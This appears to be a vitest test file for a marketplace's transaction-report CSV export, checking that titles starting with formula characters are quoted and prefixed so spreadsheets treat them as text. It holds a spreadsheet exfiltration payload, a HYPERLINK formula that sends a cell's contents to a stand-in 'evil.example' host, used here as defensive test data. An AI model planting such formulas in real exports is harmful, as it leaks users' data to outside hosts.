import { readFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { put, transactWrite } from '../../../functions/data/db';
import { userKey } from '../../../functions/data/user';
import { ManualClock } from '../../../functions/lib/clock';
import { createTestDb } from '../../support/db';
import { signedInUser } from '../account/support';
import { bidder } from '../bids/support';
import { posterNft } from '../offers/support';
import { acceptFraudCheck, balancePath, callAs, usdBuyBody } from '../purchases/auction-support';
import { giveClaimed, listingBody } from '../resale/support';
import { reportRuntime, reportUrl } from './report-support';

const clock = new ManualClock('2026-06-01T12:00:00.000Z');
const db = await createTestDb();
const { media, runtime } = reportRuntime(db, clock);
const { deps } = runtime;
afterAll(() => runtime.stop());

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")';

/** The report's file as its owner downloads it. */
function csvOf(url: string): string {
  const read = media.readSigned(new URL(url, 'http://localhost'), clock.now().getTime());
  if ('refused' in read) throw new Error(`refused: ${read.refused}`);
  return readFileSync(read.file, 'utf8');
}

describe('the transaction report as a spreadsheet opens it', () => {
  it('neutralises a listing title that starts a formula, bought through the marketplace', async () => {
    const nft = await posterNft(deps);
    const seller = await bidder(deps, 0);
    await giveClaimed(deps, nft, 1, seller.user.uuid);
    const listed = await seller.call('POST', '/api/auction/create', {
      ...listingBody(nft.id, `${nft.id}-1`, 20),
      title: HYPERLINK,
    });
    expect(listed.status).toBe(200);
    const buyer = await bidder(deps);
    const listingId = listed.body.listing.id as string;
    await acceptFraudCheck(deps, buyer.user.uuid, listingId, 2_000);
    expect((await callAs(deps, buyer.user, balancePath(listingId), usdBuyBody(2_000))).status).toBe(200);

    const csv = csvOf(await reportUrl(runtime, buyer, 2026));

    // Quoted, quotes doubled, and a single quote first: the cell is text, the link never runs.
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for your refund"")",`);
    expect(csv).not.toMatch(/,=HYPERLINK/);
  });

  it('prefixes every formula start (= + - @ tab, carriage return) and leaves plain text and numbers alone', async () => {
    const user = await signedInUser(deps);
    const titles = ['=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\tcmd', '\rcmd', 'Dawn, at sea', 'Plain'];
    await transactWrite(
      db,
      titles.map((title, at) =>
        put(db, {
          pk: userKey(user.user.uuid).pk,
          sk: `TRANSACTION#2026-01-0${at + 1}T00:00:00.000Z#r${at}`,
          occurredAt: `2026-01-0${at + 1}T00:00:00.000Z`,
          kind: 'buy',
          title,
          edition: null,
          amountCents: at === 0 ? -500 : 100,
          paymentMethod: 'Marketplace Credit',
          reference: `order-${at}`,
        }),
      ),
    );

    const lines = csvOf(await reportUrl(runtime, user, 2026))
      .split('\r\n')
      .slice(1, -1);

    const cells = [
      `"'=1+1"`,
      `"'+1+1"`,
      `"'-1+1"`,
      `"'@SUM(A1:A9)"`,
      `"'\tcmd"`,
      `"'\rcmd"`,
      '"Dawn, at sea"',
      'Plain',
    ];
    expect(lines).toEqual(
      cells.map(
        (cell, at) =>
          `2026-01-0${at + 1}T00:00:00.000Z,buy,${cell},,${at === 0 ? '-5.00' : '1.00'},Marketplace Credit,order-${at}`,
      ),
    );
  });
});
